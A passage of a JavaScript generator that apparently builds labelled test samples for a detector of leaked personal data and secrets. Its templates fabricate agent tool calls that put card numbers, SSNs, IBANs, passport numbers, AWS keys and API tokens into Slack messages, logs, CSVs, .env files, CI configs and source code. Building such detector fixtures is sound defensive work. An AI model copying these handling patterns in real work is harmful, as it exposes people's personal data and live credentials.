  () => ({ tool: 'query', tags: ['sql'], args: { sql: `UPDATE payment_methods SET pan = '${L('CREDIT_CARD', cardNumber())}', updated_at = now() WHERE customer_id = ${int(1000, 99999)};` } }),
  () => ({ tool: 'analyze_logs', tags: ['log'], args: { text: `${isoTime()} WARN gateway.retry pan=${L('CREDIT_CARD', cardNumber('visa'))} amount=49.99 currency=USD order=ORD-${digits(9)} attempt=2` } }),
  () => ({ tool: 'create_charge', tags: ['payment', 'number'], args: { card_number: N('CREDIT_CARD', Number(cardNumber(pick(['visa', 'mastercard', 'discover'])))), amount: 1999 } }),
  () => ({ tool: 'crm_add_note', tags: ['crm'], args: { account_id: `001${randStr(ALNUM, 15)}`, note: `Amex on file: ${L('CREDIT_CARD', formatCard(cardNumber('amex'), 'space'))}` } }),
  () => ({
    tool: 'write_file',
    tags: ['write_file', 'csv'],
    args: { path: 'exports/refunds.csv', content: `order,card,amount\nORD-${digits(8)},${L('CREDIT_CARD', cardNumber())},19.99\nORD-${digits(8)},${L('CREDIT_CARD', cardNumber('mastercard2'))},5.00\n` },
  }),
  () => ({ tool: 'slack_post_message', tags: ['chat'], args: { channel: 'C02BILLING', text: `refund please, full number is ${L('CREDIT_CARD', cardNumber('discover'))} (customer confirmed by phone)` } }),
  () => ({
    tool: 'write_file',
    tags: ['write_file', 'docs', 'test-value'],
    note: 'Published test card number in documentation: labelled, see README (test card numbers).',
    args: { path: 'docs/payments.md', content: `## Testing\n\nUse the card ${L('CREDIT_CARD', pick(['4242 4242 4242 4242', '4111 1111 1111 1111', '5555 5555 5555 4444']))} with any future expiry and any CVC.\n` },
  }),
  () => ({
    tool: 'http_request',
    tags: ['http'],
    args: { method: 'POST', url: 'https://pay.northwind-traders.com/v1/tokens', headers: { 'Content-Type': 'application/json' }, body: `{"source":{"number":"${L('CREDIT_CARD', cardNumber('jcb'))}","exp":"${pad(int(1, 12), 2)}/${int(26, 31)}"}}` },
  }),
  () => ({ tool: 'crm_update_contact', tags: ['crm'], args: { record_id: `003${randStr(ALNUM, 15)}`, fields: { CorporateCard: L('CREDIT_CARD', formatCard(cardNumber('diners'), 'space')) } } }),
  () => ({ tool: 'ocr_receipt_store', tags: ['ocr'], args: { text: `GROCER & CO\nTOTAL 63.20\nVISA ${L('CREDIT_CARD', formatCard(cardNumber('visa'), 'space'))}\nAUTH ${digits(6)}\nTHANK YOU` } }),
  () => ({ tool: 'create_charge', tags: ['payment', 'brand-unionpay'], args: { card: { number: L('CREDIT_CARD', cardNumber('unionpay')), exp: '07/28' }, amount: 8800, currency: 'cny' } }),
  () => ({
    tool: 'write_file',
    tags: ['write_file', 'code', 'test-value'],
    note: 'Test card number in a code sample: labelled, see README.',
    args: { path: 'tests/checkout.spec.ts', content: `await page.fill('#card-number', '${L('CREDIT_CARD', pick(['4000056655665556', '5200828282828210', '378282246310005']))}')\nawait page.click('text=Pay')\n` },
  }),
  () => ({ tool: 'crm_add_note', tags: ['crm', 'brand-maestro'], args: { account_id: `001${randStr(ALNUM, 15)}`, note: `Debit card (Maestro) ${L('CREDIT_CARD', cardNumber('maestro'))} to be charged monthly` } }),
]

const SSN_TEMPLATES = [
  () => ({ tool: 'hr_create_employee', tags: ['hr'], args: { name: person().name, ssn: L('US_SSN', ssn()), start_date: '2024-07-01', department: 'Finance' } }),
  () => ({ tool: 'send_email', tags: ['send_email'], args: { to: L('EMAIL', roleEmail()), subject: 'W-4 update', body: `Hi, for the payroll form my SSN is ${L('US_SSN', ssn())}. Thanks!` } }),
  () => ({ tool: 'query', tags: ['sql'], args: { sql: `SELECT name, dob FROM applicants WHERE ssn = '${L('US_SSN', ssn())}';` } }),
  () => ({ tool: 'kyc_submit', tags: ['form', 'context-member'], args: { applicant: { full_name: person().name, ssn: L('US_SSN', ssn('')) } } }),
  () => ({ tool: 'hr_update_employee', tags: ['hr', 'number'], args: { employee_id: `E${digits(5)}`, employeeSSN: N('US_SSN', Number(ssn('').replace(/^0/, '1'))) } }),
  () => ({ tool: 'extract_form', tags: ['document'], args: { text: `Form W-2 Wage and Tax Statement 2023\na Employee's social security number ${L('US_SSN', ssn(' '))}\nb Employer identification number (EIN) ${digits(2)}-${digits(7)}` } }),
  () => ({
    tool: 'write_file',
    tags: ['write_file', 'csv'],
    args: { path: 'payroll/new_hires.csv', content: `name,ssn,start\nKwame Mensah,${L('US_SSN', ssn())},2024-07-01\nSofia Rossi,${L('US_SSN', ssn())},2024-07-15\n` },
  }),
  () => ({ tool: 'analyze_logs', tags: ['log'], args: { text: `${isoTime()} DEBUG identity.verify ssn=${L('US_SSN', ssn())} result=match score=0.97` } }),
  () => ({ tool: 'crm_update_contact', tags: ['crm'], args: { record_id: `003${randStr(ALNUM, 15)}`, fields: { TaxId__c: L('US_SSN', ssn()), Type: 'Individual' } } }),
  () => ({ tool: 'fill_pdf_form', tags: ['form'], args: { template: 'i9.pdf', fields: { LastName: 'Okafor', SSN: L('US_SSN', ssn()), Citizenship: '1' } } }),
  () => ({ tool: 'background_check_create', tags: ['form', 'context-word'], args: { candidate: person().name, notes: `Social Security No. ${L('US_SSN', ssn(''))}, DOB 1990-04-12` } }),
  () => ({ tool: 'slack_post_message', tags: ['chat'], args: { channel: 'D05PAYROLL', text: `ssn for the new contractor: ${L('US_SSN', ssn())}` } }),
]

const IBAN_TEMPLATES = [
  () => ({ tool: 'vendor_update', tags: ['finance'], args: { vendor_id: `V-${digits(5)}`, bank: { iban: L('IBAN', iban()), bic: pick(['DEUTDEFF', 'COBADEFFXXX', 'NWBKGB2L', 'BNPAFRPP', 'INGBNL2A']) } } }),
  () => ({
    tool: 'send_email',
    tags: ['send_email'],
    args: { to: L('EMAIL', email()), subject: `Invoice ${digits(5)}`, body: `Please transfer the amount to\nIBAN: ${L('IBAN', formatIban(iban('DE'), true))}\nReference: INV-${digits(5)}` },
  }),
  () => ({
    tool: 'write_file',
    tags: ['write_file', 'xml'],
    args: { path: 'sepa/pain.001.xml', content: `<CdtrAcct>\n  <Id>\n    <IBAN>${L('IBAN', iban(pick(['FR', 'ES', 'IT', 'NL'])))}</IBAN>\n  </Id>\n</CdtrAcct>` },
  }),
  () => ({ tool: 'write_file', tags: ['write_file', 'csv'], args: { path: 'payouts/june.csv', content: `payee,iban,amount\nTailspin Toys,${L('IBAN', iban('DE'))},1200.00\nWingtip,${L('IBAN', iban('FR'))},845.50\n` } }),
  () => ({ tool: 'crm_add_note', tags: ['crm'], args: { account_id: `001${randStr(ALNUM, 15)}`, note: `New bank details received by phone, IBAN ${L('IBAN', formatIban(iban(), true))}, to be confirmed in writing.` } }),
  () => ({ tool: 'slack_post_message', tags: ['chat'], args: { channel: 'C03FINOPS', text: `pls pay the Litware invoice to ${L('IBAN', iban('GB'))} today` } }),
  () => ({ tool: 'query', tags: ['sql'], args: { sql: `UPDATE suppliers SET iban = '${L('IBAN', iban())}' WHERE id = ${int(10, 9999)};` } }),
  () => ({ tool: 'payroll_set_account', tags: ['hr'], args: { employee_id: `E${digits(5)}`, account: { holder: person().name, iban: L('IBAN', formatIban(iban(pick(['NL', 'BE', 'AT', 'CH'])), false)) } } }),
  () => ({ tool: 'extract_form', tags: ['document'], args: { text: `Rechnung Nr. ${digits(6)}\nBankverbindung: Sparkasse\nIBAN ${L('IBAN', formatIban(iban('DE'), true))}\nBIC ${pick(['DEUTDEFF', 'COBADEFFXXX'])}` } }),
  () => ({ tool: 'create_payment', tags: ['payment'], args: { creditor: { name: pick(COMPANIES), account: { iban: L('IBAN', iban(pick(['PL', 'SE', 'IE', 'PT', 'DK', 'NO', 'FI']))) } }, amount: { value: '950.00', currency: 'EUR' } } }),
  () => ({
    tool: 'write_file',
    tags: ['write_file', 'docs', 'test-value'],
    note: "The IBAN from the registry's documentation: a valid IBAN, labelled like example.com emails.",
    args: { path: 'docs/payouts.md', content: `Example payout account: ${L('IBAN', pick(['GB82 WEST 1234 5698 7654 32', 'DE89370400440532013000']))}` },
  }),
]

const IP_TEMPLATES = [
  () => ({
    tool: 'analyze_logs',
    tags: ['log'],
    args: { text: `${L('IP_ADDRESS', ipv4('public'))} - - [10/Jun/2024:14:03:22 +0000] "GET /api/v1/orders?page=2 HTTP/1.1" 200 5123 "-" "Mozilla/5.0 (X11; Linux x86_64)"` },
  }),
  () => ({ tool: 'run_shell', tags: ['shell'], args: { command: `ssh -i ~/.ssh/deploy.pem ubuntu@${L('IP_ADDRESS', ipv4('private10'))} 'sudo systemctl restart api'` } }),
  () => ({ tool: 'firewall_add_rule', tags: ['infra'], args: { action: 'allow', source: L('IP_ADDRESS', ipv4('public')), port: 22, protocol: 'tcp', comment: 'office VPN egress' } }),
  () => {
    const a = ipv4('doc')
    const b = ipv4('private10')
    return { tool: 'http_request', tags: ['http'], args: { method: 'GET', url: 'https://internal.northwind-traders.com/debug', headers: { 'X-Forwarded-For': `${L('IP_ADDRESS', a)}, ${L('IP_ADDRESS', b)}` } } }
  },
  () => ({ tool: 'http_request', tags: ['http'], args: { method: 'GET', url: `http://${L('IP_ADDRESS', ipv4('private192'))}:8080/api/health` } }),
  () => ({ tool: 'kubectl', tags: ['infra', 'yaml'], args: { command: 'apply -f -', stdin: `apiVersion: v1\nkind: Endpoints\nmetadata:\n  name: legacy-db\nsubsets:\n  - addresses:\n      - ip: ${L('IP_ADDRESS', ipv4('private172'))}\n    ports:\n      - port: 5432\n` } }),
  () => ({ tool: 'query', tags: ['sql'], args: { sql: `SELECT count(*) FROM logins WHERE client_ip = '${L('IP_ADDRESS', ipv4())}' AND ts > now() - interval '1 day';` } }),
  () => ({ tool: 'audit_search', tags: ['json'], args: { filter: { event: 'login_failed', client_ip: L('IP_ADDRESS', ipv4('public')) } } }),
  () => ({ tool: 'analyze_logs', tags: ['log', 'ipv6'], args: { text: `${isoTime()} WARN sshd[2211]: Failed password for invalid user admin from ${L('IP_ADDRESS', ipv6())} port ${int(30000, 65000)} ssh2` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'config'], args: { path: '/etc/nginx/conf.d/realip.conf', content: `set_real_ip_from ${L('IP_ADDRESS', ipv4('private10'))};\nreal_ip_header X-Forwarded-For;\n` } }),
  () => ({ tool: 'create_issue', tags: ['create_issue'], args: { repo: 'northwind/infra', title: 'Replica lagging', body: `The replica at ${L('IP_ADDRESS', ipv4('private10'))} is 40 minutes behind the primary (${L('IP_ADDRESS', ipv4('private10'))}). Started after the failover.` } }),
  () => ({ tool: 'dns_create_record', tags: ['infra', 'ipv6'], args: { zone: 'northwind-traders.com', name: 'api', type: 'AAAA', value: L('IP_ADDRESS', ipv6()), ttl: 300 } }),
  () => ({ tool: 'slack_post_message', tags: ['chat'], args: { channel: 'C05SECOPS', text: `blocking ${L('IP_ADDRESS', ipv4('public'))} at the WAF, it's been credential-stuffing /login all morning` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'config'], args: { path: 'inventory.ini', content: `[web]\nweb1 ansible_host=${L('IP_ADDRESS', ipv4('private192'))}\nweb2 ansible_host=${L('IP_ADDRESS', ipv4('private192'))}\n` } }),
]

const PASSPORT_TEMPLATES = [
  () => ({ tool: 'book_flight', tags: ['travel'], args: { flight: `UA${int(100, 999)}`, passengers: [{ name: person().name, nationality: 'US', passport_number: L('US_PASSPORT', passport()), passport_expiry: '2031-04-09' }] } }),
  () => ({ tool: 'send_email', tags: ['send_email'], args: { to: L('EMAIL', email()), subject: 'Visa invitation letter', body: `Dear team,\n\nmy US passport number is ${L('US_PASSPORT', passport())}, valid until March 2030.\n\nRegards` } }),
  () => ({ tool: 'kyc_submit', tags: ['form'], args: { applicant: { name: person().name, document: { type: 'passport', country: 'USA', number: L('US_PASSPORT', passport()) } } } }),
  () => ({ tool: 'crm_update_contact', tags: ['crm'], args: { record_id: `003${randStr(ALNUM, 15)}`, fields: { passportNumber: L('US_PASSPORT', passport()), Nationality: 'United States' } } }),
  () => ({ tool: 'extract_form', tags: ['document'], args: { text: `DS-82 U.S. Passport Renewal Application\nMost recent passport book number: ${L('US_PASSPORT', passport())}\nIssue date: 05/14/2015` } }),
  () => ({ tool: 'query', tags: ['sql'], args: { sql: `SELECT * FROM travellers WHERE passport_no = '${L('US_PASSPORT', passport())}';` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'csv'], args: { path: 'offsite/travellers.csv', content: `name,passport,nationality\nGrace Hopper,${L('US_PASSPORT', passport())},US\nAlan Turing,${L('US_PASSPORT', passport())},US\n` } }),
  () => ({ tool: 'hr_update_employee', tags: ['hr'], args: { employee_id: `E${digits(5)}`, documents: { us_passport: L('US_PASSPORT', passport()) } } }),
  () => ({ tool: 'analyze_logs', tags: ['log'], args: { text: `${isoTime()} INFO checkin.apis passenger=DOE/JANE doc=P country=USA passport=${L('US_PASSPORT', passport())} status=ok` } }),
  () => ({ tool: 'slack_post_message', tags: ['chat'], args: { channel: 'D04TRAVEL', text: `here's my passport # for the hotel: ${L('US_PASSPORT', passport())}` } }),
  () => ({ tool: 'hotel_checkin', tags: ['travel'], args: { guest: { last_name: 'Hamilton', id_document: 'US passport', id_number: L('US_PASSPORT', passport()) } } }),
]

// ---------------------------------------------------------------------------------------------------------------
// Secret positives: type-specific shapes first, then shared carriers (env files, CI, manifests, headers, code…)

/**
 * The places any API credential ends up. `spec`: env (variable name), cfg (config key), service (name), header
 * ([name, prefix]) for the headers carriers, py / js (a line of code with `$` where the value goes).
 */
function carriers(type, make, spec) {
  const v = () => L(type, make())
  const [hName, hPrefix] = spec.header ?? ['Authorization', 'Bearer ']
  return [
    () => ({ tool: 'write_file', tags: ['write_file', 'config', 'env'], args: { path: '.env.production', content: `NODE_ENV=production\nPORT=8080\n${spec.env}=${v()}\nLOG_LEVEL=info\n` } }),
    () => ({ tool: 'run_shell', tags: ['shell'], args: { command: `export ${spec.env}=${v()} && npm run deploy -- --env staging` } }),
    () => ({ tool: 'run_shell', tags: ['shell', 'docker'], args: { command: `docker run --rm -e ${spec.env}=${v()} -p 8080:8080 ghcr.io/northwind/api:2.4.1` } }),
    () => ({
      tool: 'write_file',
      tags: ['write_file', 'ci', 'yaml'],
      args: { path: '.github/workflows/release.yml', content: `name: release\non: [push]\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    env:\n      ${spec.env}: ${v()}\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm run release\n` },
    }),
    () => ({
      tool: 'kubectl',
      tags: ['infra', 'yaml'],
      args: { command: 'apply -f -', stdin: `apiVersion: v1\nkind: Secret\nmetadata:\n  name: ${spec.service.toLowerCase().replace(/\W+/g, '-')}-credentials\ntype: Opaque\nstringData:\n  ${spec.cfg}: "${v()}"\n` },
    }),
    () => ({ tool: 'http_request', tags: ['http', 'header'], args: { method: 'GET', url: spec.url ?? 'https://api.northwind-traders.com/v1/me', headers: { Accept: 'application/json', [hName]: `${hPrefix}${v()}` } } }),
    () => ({ tool: 'run_shell', tags: ['shell', 'curl', 'header'], args: { command: `curl -sS -H "${hName}: ${hPrefix}${v()}" -H "Content-Type: application/json" ${spec.url ?? 'https://api.northwind-traders.com/v1/me'}` } }),
    () => ({ tool: 'write_file', tags: ['write_file', 'code'], args: { path: 'scripts/sync.py', content: `import os\n\n${spec.py.replace('$', v())}\n\ndef main():\n    print("syncing", len(os.listdir(".")))\n` } }),
    () => ({ tool: 'write_file', tags: ['write_file', 'code'], args: { path: 'src/client.ts', content: `// TODO: move to the secret store\n${spec.js.replace('$', v())}\n\nexport default client\n` } }),
    () => ({
      tool: 'create_issue',
      tags: ['create_issue', 'yaml'],
      args: { repo: 'northwind/platform', title: `${spec.service} calls fail with 401`, body: `Since this morning every call returns 401. Our config:\n\n\`\`\`yaml\n${spec.service.toLowerCase().replace(/\W+/g, '_')}:\n  ${spec.cfg}: ${v()}\n  timeout: 30s\n\`\`\`\nAny idea?` },
    }),
    () => ({ tool: 'slack_post_message', tags: ['chat'], args: { channel: 'C06DEVOPS', text: `temp ${spec.service} credential for the staging demo: ${v()} (I'll rotate it tomorrow)` } }),
    () => ({
      tool: 'create_issue',
      tags: ['create_issue', 'stack-trace', 'log'],
      args: { repo: 'northwind/worker', title: 'Crash on startup', body: `\`\`\`\nError: request to ${spec.service} failed: 401 Unauthorized\n    at Client.send (node_modules/sdk/dist/index.js:212:15)\n    at async main (src/worker.ts:33:5)\nconfig: {"${spec.cfg}":"${v()}","retries":3}\n\`\`\`` },
    }),
    () => ({ tool: 'query', tags: ['sql'], args: { sql: `INSERT INTO integrations (tenant_id, service, credential) VALUES (${int(1, 999)}, '${spec.service}', '${v()}');` } }),
    () => ({ tool: 'memory_store', tags: ['notes'], args: { key: `${spec.service.toLowerCase().replace(/\W+/g, '-')}-sandbox`, content: `${spec.service} sandbox credential: ${v()}` } }),
    () => ({ tool: 'update_settings', tags: ['json'], args: { integrations: { [spec.service.toLowerCase().replace(/\W+/g, '_')]: { enabled: true, [spec.cfg]: v() } } } }),
    () => ({ tool: 'write_file', tags: ['write_file', 'config', 'toml'], args: { path: 'config/production.toml', content: `[${spec.service.toLowerCase().replace(/\W+/g, '_')}]\n${spec.cfg} = "${v()}"\nregion = "eu-west-1"\n` } }),
  ]
}

const awsPair = () => [L('AWS_ACCESS_KEY', awsAccessKey('AKIA')), L('AWS_SECRET_KEY', awsSecretKey())]
const AWS_TEMPLATES = [
  () => {
    const [id, secret] = awsPair()
    return { tool: 'write_file', tags: ['write_file', 'config'], args: { path: '~/.aws/credentials', content: `[default]\naws_access_key_id = ${id}\naws_secret_access_key = ${secret}\nregion = us-east-1\n` } }
  },
  () => {
    const [id, secret] = awsPair()
    return { tool: 'run_shell', tags: ['shell'], args: { command: `export AWS_ACCESS_KEY_ID=${id}\nexport AWS_SECRET_ACCESS_KEY=${secret}\naws s3 ls s3://northwind-backups/` } }
  },
  () => {
    const [id, secret] = awsPair()
    return { tool: 'write_file', tags: ['write_file', 'code', 'terraform'], args: { path: 'infra/provider.tf', content: `provider "aws" {\n  region     = "eu-west-1"\n  access_key = "${id}"\n  secret_key = "${secret}"\n}\n` } }
  },
  () => {
    const [id, secret] = awsPair()
    return { tool: 'write_file', tags: ['write_file', 'code'], args: { path: 'etl/upload.py', content: `import boto3\n\ns3 = boto3.client(\n    "s3",\n    aws_access_key_id="${id}",\n    aws_secret_access_key="${secret}",\n)\n` } }
  },
  () => ({
    tool: 'create_issue',
    tags: ['create_issue', 'json'],
    args: {
      repo: 'northwind/infra',
      title: 'assume-role output',
      body: `\`\`\`json\n{\n  "Credentials": {\n    "AccessKeyId": "${L('AWS_ACCESS_KEY', awsAccessKey('ASIA'))}",\n    "SecretAccessKey": "${L('AWS_SECRET_KEY', awsSecretKey())}",\n    "SessionToken": "${L('GENERIC_SECRET', `IQoJb3JpZ2luX2Vj${periodic(B64, 300, 14)}`)}",\n    "Expiration": "${isoTime()}"\n  }\n}\n\`\`\``,
    },
  }),
  () => {
    const [id, secret] = awsPair()
    return { tool: 'run_shell', tags: ['shell', 'docker'], args: { command: `docker run -e AWS_ACCESS_KEY_ID=${id} -e AWS_SECRET_ACCESS_KEY=${secret} -e AWS_REGION=us-west-2 amazon/aws-cli sts get-caller-identity` } }
  },
  () => ({ tool: 'analyze_logs', tags: ['log'], args: { text: `${isoTime()} INFO uploader using credentials from env: access key ${L('AWS_ACCESS_KEY', awsAccessKey())}, bucket northwind-exports` } }),
  () => ({ tool: 'analyze_logs', tags: ['log', 'json'], args: { text: `{"eventName":"GetObject","userIdentity":{"type":"IAMUser","accessKeyId":"${L('AWS_ACCESS_KEY', awsAccessKey())}"},"sourceIPAddress":"${L('IP_ADDRESS', ipv4('public'))}"}` } }),
  () => {
    const [id, secret] = awsPair()
    return { tool: 'run_shell', tags: ['shell'], args: { command: `aws configure set aws_access_key_id ${id} && aws configure set aws_secret_access_key ${secret}` } }
  },
  () => {
    const [id, secret] = awsPair()
    return { tool: 'update_settings', tags: ['json'], args: { storage: { provider: 's3', bucket: 'northwind-media', accessKeyId: id, secretAccessKey: secret } } }
  },
  () => {
    const [id, secret] = awsPair()
    return { tool: 'kubectl', tags: ['infra', 'yaml'], args: { command: 'apply -f -', stdin: `apiVersion: v1\nkind: Secret\nmetadata:\n  name: s3-creds\nstringData:\n  AWS_ACCESS_KEY_ID: ${id}\n  AWS_SECRET_ACCESS_KEY: ${secret}\n` } }
  },
  () => {
    const [id, secret] = awsPair()
    return { tool: 'write_file', tags: ['write_file', 'config', 'env'], args: { path: '.env', content: `DATABASE_URL=postgres://localhost/dev\nAWS_ACCESS_KEY_ID=${id}\nAWS_SECRET_ACCESS_KEY=${secret}\n` } }
  },
  () => ({ tool: 'slack_post_message', tags: ['chat'], args: { channel: 'D07INFRA', text: `secret access key for the backup user: ${L('AWS_SECRET_KEY', awsSecretKey())}` } }),
  () => {
    const [id, secret] = awsPair()
    return { tool: 'create_issue', tags: ['create_issue', 'ci'], args: { repo: 'northwind/app', title: 'CI cannot upload artifacts', body: `The job prints:\n\n    Using AWS_ACCESS_KEY_ID=${id}\n    Using AWS_SECRET_ACCESS_KEY=${secret}\n    upload failed: AccessDenied` } }
  },
  () => {
    const [id, secret] = awsPair()
    return { tool: 'write_file', tags: ['write_file', 'code'], args: { path: 'src/s3.js', content: `const s3 = new S3Client({\n  region: 'us-east-1',\n  credentials: { accessKeyId: '${id}', secretAccessKey: '${secret}' },\n})\n` } }
  },
  () => {
    const [id, secret] = awsPair()
    return { tool: 'write_file', tags: ['write_file', 'csv'], args: { path: 'new_user_credentials.csv', content: `User name,Password,Access key ID,Secret access key,Console login link\nci-uploader,,${id},${secret},https://northwind.signin.aws.amazon.com/console\n` } }
  },
  () => {
    const [id, secret] = awsPair()
    return { tool: 'query', tags: ['sql'], args: { sql: `UPDATE tenants SET s3_key_id = '${id}', s3_secret = '${secret}' WHERE id = ${int(1, 500)};` } }
  },
  () => {
    const [id, secret] = awsPair()
    return { tool: 'write_file', tags: ['write_file', 'ci', 'yaml'], args: { path: '.gitlab-ci.yml', content: `deploy:\n  variables:\n    AWS_ACCESS_KEY_ID: "${id}"\n    AWS_SECRET_ACCESS_KEY: "${secret}"\n  script:\n    - aws s3 sync dist/ s3://northwind-site\n` } }
  },
  () => ({ tool: 'memory_store', tags: ['notes'], args: { key: 'aws-backup', content: `aws_secret_access_key=${L('AWS_SECRET_KEY', awsSecretKey())}` } }),
  () => ({ tool: 'update_settings', tags: ['json'], args: { backups: { destination: 's3://northwind-backups', AWS_SECRET_ACCESS_KEY: L('AWS_SECRET_KEY', awsSecretKey()) } } }),
  () => {
    const [id, secret] = awsPair()
    return { tool: 'run_shell', tags: ['shell'], args: { command: `rclone config create backup s3 provider=AWS access_key_id=${id} secret_access_key=${secret}` } }
  },
]

const GITHUB_SPECIFIC = [
  () => ({ tool: 'run_shell', tags: ['shell', 'git', 'url-credential'], args: { command: `git remote set-url origin https://x-access-token:${L('GITHUB_TOKEN', githubToken('ghs'))}@github.com/northwind/api.git` } }),
  () => ({ tool: 'http_request', tags: ['http', 'header'], args: { method: 'GET', url: 'https://api.github.com/repos/northwind/api/pulls', headers: { Authorization: `token ${L('GITHUB_TOKEN', githubToken('ghp'))}`, Accept: 'application/vnd.github+json' } } }),
  () => ({ tool: 'run_shell', tags: ['shell'], args: { command: `echo ${L('GITHUB_TOKEN', githubToken('ghp'))} | docker login ghcr.io -u release-bot --password-stdin` } }),
  () => ({ tool: 'run_shell', tags: ['shell'], args: { command: `gh auth login --with-token <<< ${L('GITHUB_TOKEN', githubToken('pat'))}` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'config'], args: { path: '.npmrc', content: `@northwind:registry=https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=${L('GITHUB_TOKEN', githubToken())}\n` } }),
]
const GITHUB_TEMPLATES = [...GITHUB_SPECIFIC, ...carriers('GITHUB_TOKEN', githubToken, { env: 'GITHUB_TOKEN', cfg: 'token', service: 'GitHub', url: 'https://api.github.com/user', py: 'gh = Github("$")', js: 'const client = new Octokit({ auth: "$" })' })]

const SLACK_SPECIFIC = [
  () => ({ tool: 'write_file', tags: ['write_file', 'code'], args: { path: 'bot/app.py', content: `from slack_sdk import WebClient\n\nclient = WebClient(token="${L('SLACK_TOKEN', slackToken('xoxb'))}")\nclient.chat_postMessage(channel="#deploys", text="done")\n` } }),
  () => ({ tool: 'run_shell', tags: ['shell', 'curl'], args: { command: `curl -X POST -H "Authorization: Bearer ${L('SLACK_TOKEN', slackToken('xoxp'))}" -d channel=C024BE91L -d text=hello https://slack.com/api/chat.postMessage` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'config', 'env', 'app-token'], args: { path: '.env', content: `SLACK_APP_TOKEN=${L('SLACK_TOKEN', slackToken('xapp'))}\nSLACK_SIGNING_SECRET=${L('GENERIC_SECRET', randStr(HEX, 32))}\n` } }),
  () => ({ tool: 'update_settings', tags: ['json', 'refresh-token'], args: { slack: { refresh_token: L('SLACK_TOKEN', `xoxe-1-${periodic(B64URL, 140, 12)}`), team: 'T024BE7LD' } } }),
]
const SLACK_TEMPLATES = [...SLACK_SPECIFIC, ...carriers('SLACK_TOKEN', slackToken, { env: 'SLACK_BOT_TOKEN', cfg: 'bot_token', service: 'Slack', url: 'https://slack.com/api/auth.test', py: 'client = WebClient(token="$")', js: "const client = new WebClient('$')" })]

const WEBHOOK_TEMPLATES = [
  () => ({ tool: 'run_shell', tags: ['shell', 'curl'], args: { command: `curl -X POST -H 'Content-type: application/json' --data '{"text":"Deploy finished"}' ${L('SLACK_WEBHOOK', slackWebhook())}` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'config', 'yaml'], args: { path: 'alertmanager.yml', content: `global:\n  slack_api_url: '${L('SLACK_WEBHOOK', slackWebhook())}'\nroute:\n  receiver: oncall\n` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'code', 'terraform'], args: { path: 'monitoring.tf', content: `resource "datadog_integration_slack_channel" "alerts" {\n  webhook_url = "${L('SLACK_WEBHOOK', slackWebhook())}"\n}\n` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'code'], args: { path: 'notify.py', content: `import requests\n\nrequests.post("${L('SLACK_WEBHOOK', slackWebhook())}", json={"text": "backup ok"})\n` } }),
  () => ({ tool: 'update_settings', tags: ['json'], args: { notifications: { slack: { url: L('SLACK_WEBHOOK', slackWebhook()), channel: '#alerts' } } } }),
  () => ({ tool: 'http_request', tags: ['http'], args: { method: 'POST', url: L('SLACK_WEBHOOK', slackWebhook()), body: '{"text":"nightly report ready"}' } }),
  ...carriers('SLACK_WEBHOOK', slackWebhook, { env: 'SLACK_WEBHOOK_URL', cfg: 'webhook_url', service: 'Slack', py: 'WEBHOOK = "$"', js: "const WEBHOOK = '$'" }).filter((_, index) => ![5, 6].includes(index)),
]

const STRIPE_SPECIFIC = [
  () => ({ tool: 'run_shell', tags: ['shell', 'curl'], args: { command: `curl https://api.stripe.com/v1/charges -u ${L('STRIPE_KEY', stripeKey('sk_test_'))}: -d amount=2000 -d currency=usd` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'code'], args: { path: 'billing/stripe_client.rb', content: `require 'stripe'\nStripe.api_key = '${L('STRIPE_KEY', stripeKey('sk_live_'))}'\n` } }),
  () => ({ tool: 'run_shell', tags: ['shell'], args: { command: `stripe listen --api-key ${L('STRIPE_KEY', stripeKey('rk_live_'))} --forward-to localhost:4242/webhook` } }),
]
const STRIPE_TEMPLATES = [...STRIPE_SPECIFIC, ...carriers('STRIPE_KEY', stripeKey, { env: 'STRIPE_SECRET_KEY', cfg: 'secret_key', service: 'Stripe', url: 'https://api.stripe.com/v1/balance', py: 'stripe.api_key = "$"', js: "const client = new Stripe('$')" })]

const GCP_SPECIFIC = [
  () => ({ tool: 'http_request', tags: ['http', 'url-query'], args: { method: 'GET', url: `https://maps.googleapis.com/maps/api/geocode/json?address=1600+Amphitheatre&key=${L('GCP_API_KEY', gcpApiKey())}` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'html'], args: { path: 'public/index.html', content: `<script async src="https://maps.googleapis.com/maps/api/js?key=${L('GCP_API_KEY', gcpApiKey())}&callback=initMap"></script>` } }),
  () => ({ tool: 'write_file', tags: ['write_file', 'code'], args: { path: 'src/firebase.ts', content: `export const firebaseConfig = {\n  apiKey: "${L('GCP_API_KEY', gcpApiKey())}",\n  authDomain: "northwind-prod.firebaseapp.com",\n  projectId: "northwind-prod",\n}\n` } }),
]
const GCP_TEMPLATES = [...GCP_SPECIFIC, ...carriers('GCP_API_KEY', gcpApiKey, { env: 'GOOGLE_API_KEY', cfg: 'api_key', service: 'Google Maps', header: ['x-goog-api-key', ''], url: 'https://generativelanguage.googleapis.com/v1beta/models', py: 'genai.configure(api_key="$")', js: "const genAI = new GoogleGenerativeAI('$')" })]

const OPENAI_SPECIFIC = [
  () => ({ tool: 'write_file', tags: ['write_file', 'code', 'legacy-format'], args: { path: 'notebooks/summarise.py', content: `import openai\nopenai.api_key = "${L('OPENAI_API_KEY', openaiKey('legacy'))}"\n` } }),
  () => ({ tool: 'update_settings', tags: ['json'], args: { llm: { provider: 'openai', model: 'gpt-4o-mini', apiKey: L('OPENAI_API_KEY', openaiKey('svcacct')) } } }),
]
const OPENAI_TEMPLATES = [...OPENAI_SPECIFIC, ...carriers('OPENAI_API_KEY', openaiKey, { env: 'OPENAI_API_KEY', cfg: 'api_key', service: 'OpenAI', url: 'https://api.openai.com/v1/models', py: 'client = OpenAI(api_key="$")', js: "const openai = new OpenAI({ apiKey: '$' })" })]

const ANTHROPIC_SPECIFIC = [
